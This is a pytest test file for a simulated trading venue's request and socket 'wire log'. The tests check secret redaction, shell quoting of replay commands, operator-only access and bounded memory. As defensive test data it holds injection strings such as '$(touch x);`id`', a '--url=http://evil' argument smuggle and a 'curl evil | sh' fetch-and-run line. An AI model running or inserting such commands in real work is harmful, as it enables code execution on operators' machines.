"""The wire log: its entries about requests, sockets and faults, and secrets it never tells."""

from __future__ import annotations

import contextlib
import http.client
import os
import shlex
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from support.client import Answer
from support.faulty import TIME, add, refused
from support.listening import Listener, login
from support.server import Server
from support.socket_desk import SPOT, at_once, open_ids, place
from support.waits import WAIT_S
from support.wire import WIRE, clear, entries, last
from venue.api.documents.table import ROWS
from venue.api.operator.wire import WireEntry
from venue.gateway.operations.operator.wire import _repeat_of

SIZE = 200
ORDER = SPOT.order


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("wire")
    with Server("--no-agents", "--no-limits", "--wire-log", str(SIZE), folder=folder) as found:
        yield found
        assert found.stop() == 0
        assert found.errors.read_text() == ""


@pytest.fixture(autouse=True)
def _nothing_stays(server: Server) -> Iterator[None]:
    yield
    clear(server)


def run(server: Server, *arguments: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "venue", *arguments],
        capture_output=True,
        text=True,
        timeout=WAIT_S,
        env={**os.environ, "VENUE_URL": server.url},
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_a_request_is_told_whole(server: Server) -> None:
    alice = server.client("alice")
    before = alice.get(TIME)
    placed = alice.post(ORDER, SPOT.plain)
    assert (before.status, placed.status) == (200, 200)
    entry = last(server, owner="alice", kind="REQUEST")
    assert {name: entry[name] for name in ("method", "path", "operation", "owner", "status")} == {
        "method": "POST",
        "path": ORDER,
        "operation": "place_order",
        "owner": "alice",
        "status": 200,
    }
    assert (entry["code"], entry["msg"], entry["fault"]) == (0, "", "")
    assert entry["ms"] > 0
    assert '"symbol":"BTCUSDT"' in entry["text"]


def test_a_refusal_tells_its_number(server: Server) -> None:
    answer = server.client("alice").post(ORDER, {**SPOT.plain, "quantity": "0"})
    assert answer.status == 400
    entry = last(server, owner="alice", status="4xx")
    assert answer.headers["x-venue-request-id"] == str(entry["number"])
    assert (entry["code"], entry["msg"]) == (answer.json["code"], answer.json["msg"])
    assert entry == last(server, owner="alice", status="400", operation="place_order")
    assert "x-venue-request-id" not in server.client("alice").post(ORDER, SPOT.plain).headers


def test_the_line_repeats_the_request(server: Server) -> None:
    alice = server.client("alice")
    assert alice.post(ORDER, SPOT.plain).status == 200
    line = last(server, owner="alice", operation="place_order")["repeat"]
    assert line.startswith("venue post /api/v3/order --as alice ")
    run(server, *shlex.split(line)[1:])
    assert len(open_ids(alice, SPOT)) == 2
    first, second = entries(server, owner="alice", operation="place_order")[-2:]
    assert first["text"] == second["text"]


@pytest.mark.parametrize(
    "target",
    [
        "/api/v3/order?--url=http%3A%2F%2Fevil&orderId=1",
        "/api/v3/order?orderId=1%0a",
        "/api/v3/order?orderId=1%1b[2J",
        "/api/v3/order?-v=1",
        "/api/v3/nothing?a=1",
    ],
)
def test_no_line_that_a_stranger_made_does_more_than_repeat(server: Server, target: str) -> None:
    """An operator pastes the line: it must send this request, and to this venue."""
    server.client("alice").get(target)
    assert last(server, kind="REQUEST")["repeat"] is None


def test_what_a_shell_would_read_is_quoted(server: Server) -> None:
    server.client("alice").get("/api/v3/order?orderId=%24%28touch%20x%29%3B%60id%60")
    line = last(server, owner="alice", kind="REQUEST")["repeat"]
    assert shlex.split(line)[-1] == "orderId=$(touch x);`id`"


def test_secrets_are_not_told(server: Server) -> None:
    operator = server.client()
    made = operator.post("/_venue/keys", {"owner": "alice", "permissions": ["READ"]})
    server.client("alice").get("/api/v3/account/assets?secret=hidden&token=hidden&asset=BTC")
    with Listener(server.port, SPOT.socket, login(server.account("alice"))) as listener:
        listener.ask({"method": "PING", "id": 1, "params": {"passphrase": "open-sesame"}})
    text = operator.get(f"{WIRE}?limit=1000&tools=true").body.decode()
    account = server.account("alice")
    for secret in ("open-sesame", "hidden", account["secret"], account["passphrase"]):
        assert secret not in text
    assert made.json["key"] not in text


def test_an_operation_over_a_socket(server: Server) -> None:
    with Listener(server.port, SPOT.socket, login(server.account("alice"))) as listener:
        listener.ask({"method": "SUBSCRIBE", "id": 1, "params": ["orders"]})
        assert listener.ask(place(SPOT))["status"] == 200
        refusal = listener.ask(place(SPOT, quantity="0"))
    entry = last(server, owner="alice", kind="OPERATION")
    assert (entry["operation"], entry["status"]) == ("place_order", refusal["status"])
    assert entry["code"] == refusal["error"]["code"]
    assert entry["repeat"].startswith("venue post /api/v3/order --as alice ")
    heard = [one["text"] for one in entries(server, owner="alice", kind="HEARD")]
    assert any('"SUBSCRIBE"' in text for text in heard)
    sent = [one["text"] for one in entries(server, owner="alice", kind="SENT")]
    assert any('"e":"orders"' in text for text in sent)
    assert any('"connected"' in text for text in sent)


def test_operations_that_come_too_fast_are_told_too(tmp_path: Path) -> None:
    """Of 500 messages in a second the next ones are refused by themselves."""
    with (
        Server("--no-agents", "--wire-log", "10000", folder=tmp_path) as server,
        Listener(server.port, SPOT.socket, login(server.account("alice"))) as listener,
    ):
        count, too_fast = 0, False
        while not too_fast:  # a busy machine may take longer than a second for some
            answers = at_once(listener, [place(SPOT, number) for number in range(600)])
            count += len(answers)
            told = [answer["error"]["msg"] for answer in answers if "error" in answer]
            too_fast = any("messages in a second" in words for words in told)
        found = entries(server, owner="alice", kind="OPERATION", limit=1000)
        assert len(found) == min(count, 1000)
        assert 429 in {entry["status"] for entry in found}


def test_public_market_data_does_not_fill_it(server: Server) -> None:
    with Listener(server.port, "/spot/v3/ws/public") as listener:
        listener.ask({"method": "SUBSCRIBE", "id": 1, "params": ["BTCUSDT@depth15"]})
        listener.until(lambda frame: frame.get("e") == "depthSnapshot")
    frames = entries(server, kind="SENT")
    assert any('"result":true' in one["text"] for one in frames)
    assert not any('"e":"depth' in one["text"] for one in frames)


def test_a_login_that_is_refused(server: Server) -> None:
    account = {**server.account("alice"), "passphrase": "wrong"}
    with pytest.raises(Exception, match="401"):
        Listener(server.port, SPOT.socket, login(account))
    entry = last(server, status="4xx")
    assert entry["owner"] == ""  # it has not shown that it is hers
    assert (entry["path"], entry["kind"]) == (SPOT.socket, "OPERATION")
    assert entry["code"] == -1049


def test_a_fault_names_its_firing(server: Server) -> None:
    add(server, "status", id="down", status=503, match={"path": TIME})
    answer = server.client("alice").get(TIME)
    entry = last(server, faulty="true")
    assert (entry["status"], entry["fault"]) == (503, answer.headers["x-venue-fault"])
    assert answer.headers["x-venue-request-id"] == str(entry["number"])


@pytest.mark.parametrize("kind", ["drop_before", "drop_after", "reset"])
def test_a_request_that_nobody_answered(server: Server, kind: str) -> None:
    add(server, kind, id=kind, match={"path": TIME, "owner": "alice"})
    client = server.client("alice")
    with contextlib.suppress(http.client.HTTPException, OSError):
        client.get(TIME)
    client.connection.close()
    entry = last(server, status="lost")
    assert (entry["status"], entry["path"]) == (None, TIME)
    assert entry["fault"].endswith(f":{kind}")


def test_a_frame_that_was_left_out(server: Server) -> None:
    with Listener(server.port, SPOT.socket, login(server.account("alice"))) as listener:
        listener.ask({"method": "SUBSCRIBE", "id": 1, "params": ["orders"]})
        add(server, "ws.gap", id="gap", match={"channel": "orders"}, when={"count": 1})
        assert listener.ask(place(SPOT))["status"] == 200
        assert listener.ask(place(SPOT))["status"] == 200
        listener.until(lambda frame: frame.get("e") == "orders")
    (entry,) = [one for one in entries(server, faulty="true") if one["fault"].endswith(":gap")]
    assert (entry["kind"], entry["owner"]) == ("SENT", "alice")


def test_memory_is_bounded(server: Server) -> None:
    client = server.client()
    for _ in range(SIZE + 10):
        client.get(TIME)
    found = entries(server, kind="REQUEST", limit=1000)
    assert len([one for one in found if one["path"] == TIME]) == SIZE
    assert len(found) <= 2 * SIZE
    numbers = [one["number"] for one in found]
    assert numbers == sorted(numbers)
    assert entries(server, after=numbers[-2], kind="REQUEST") == found[-1:]
    long = b'{"symbol":"' + b"x" * 10_000 + b'"}'
    assert server.client("alice").post(ORDER, long).status == 400
    entry = last(server, owner="alice", kind="REQUEST")
    assert entry["text"] == f"{len(long)} bytes that are too long to keep, or cannot be read"
    assert entry["repeat"] is None


def test_an_owner_that_an_operator_acted_for(server: Server) -> None:
    answer = server.client().post(ORDER, SPOT.plain, headers={"X-Venue-Act-As": "alice"})
    assert answer.status == 200
    entry = last(server, owner="alice", kind="REQUEST", tools="true")
    assert (entry["operation"], entry["tool"]) == ("place_order", True)
    unknown = server.client().post(ORDER, SPOT.plain, headers={"X-Venue-Act-As": "nobody"})
    assert unknown.status == 400
    assert last(server, kind="REQUEST")["owner"] == ""


def test_only_an_operator_reads_it(server: Server) -> None:
    headers = {"Forwarded": "for=192.0.2.1"}
    assert server.client().get(WIRE, headers=headers).status == 403
    assert server.client().get(WIRE, headers={"Origin": "https://page.example"}).status == 403


@pytest.mark.parametrize(
    ("query", "code", "word"),
    [
        ("status=abc", -1142, "status"),
        ("status=6xx", -1142, "status"),
        ("kind=OTHER", -1142, "kind"),
        ("limit=0", -1140, "limit"),
        ("limit=1001", -1140, "limit"),
        ("after=-1", -1142, "after"),
        ("owner=nobody", -1142, "owner"),
        ("as=alice", -1142, "as"),
    ],
)
def test_what_is_asked_wrongly(server: Server, query: str, code: int, word: str) -> None:
    refused(server.client().get(f"{WIRE}?{query}"), code, word)


def test_the_command(server: Server) -> None:
    assert server.client("alice").post(ORDER, {**SPOT.plain, "quantity": "0"}).status == 400
    line = run(server, "wire", "list", "--status", "4xx", "--as", "alice", "--limit", "1")
    assert "  alice  place_order  400  " in line
    assert "venue post /api/v3/order --as alice" in line
    assert line.rstrip().endswith(f"--url {server.url}")
    tail = ("wire", "tail", "--operation", "place_order", "--status", "4xx", "--count", "1")
    assert "place_order" in run(server, *tail)
    assert "place_order" in run(server, "wire", "list", "--as", "alice", "--output", "json")


def test_without_it_nothing_is_kept(tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("off")
    with Server("--no-agents", "--wire-log", "0", folder=folder) as found:
        answer: Answer = found.client().get(WIRE)
        refused(answer, -1150, "--wire-log")
        wrong = found.client("alice").post(ORDER, {**SPOT.plain, "quantity": "0"})
        assert "x-venue-request-id" not in wrong.headers


@pytest.mark.parametrize(
    ("operation", "path", "text", "line"),
    [
        ("order", "/api/v3/order", '{"orderId":"$(touch x)"}',
         "venue get /api/v3/order --as alice 'orderId=$(touch x)'"),
        ("order", "/api/v3/order", '{"--url":"http://evil"}', None),
        ("order", "/api/v3/order", '{"a":"\u001b[2J"}', None),
        ("order", "/api/v3/order", "[" * 100_000, None),
        ("order", "/api/v3/order", "[1]", None),
        ("order", "/api/v3/nothing", "", None),
        ("health", "/api/v3/order", "", None),
    ],
)  # fmt: skip
def test_the_command_of_a_foreign_entry_is_made_anew(
    operation: str, path: str, text: str, line: str | None
) -> None:
    """Enemy: the sender of a bundle, whose entry says `curl evil | sh`."""
    row = next(row for row in ROWS if row.path == "/api/v3/order" and row.method == "GET")
    told = row.name if operation == "order" else operation
    entry = WireEntry(
        1, 1, "REQUEST", "alice", "GET", path, told, 200, 0, "", 0.0, "", text, "curl evil | sh"
    )
    assert _repeat_of(entry) == line


def test_a_stranger_stands_as_nobody_and_pushes_out_no_owner(server: Server) -> None:
    """Enemy: a stranger who knows alice's key, but not its secret, or who asks for public data."""
    alice, stranger = server.client("alice"), server.client()
    assert alice.get(f"{SPOT.open}?symbol=BTCUSDT").status == 200
    own = entries(server, owner="alice", limit=SIZE)
    forged = alice.headers("GET", f"{SPOT.open}?symbol=ETHUSDT", b"") | {"ACCESS-SIGN": "bm8="}
    for _ in range(SIZE + 5):
        assert stranger.get(f"{SPOT.open}?symbol=ETHUSDT", headers=forged).status == 400
    assert entries(server, owner="alice", limit=SIZE) == own
    newest = last(server, kind="REQUEST", operation="open_orders")
    assert (newest["owner"], newest["code"], newest["status"]) == ("", -1047, 400)
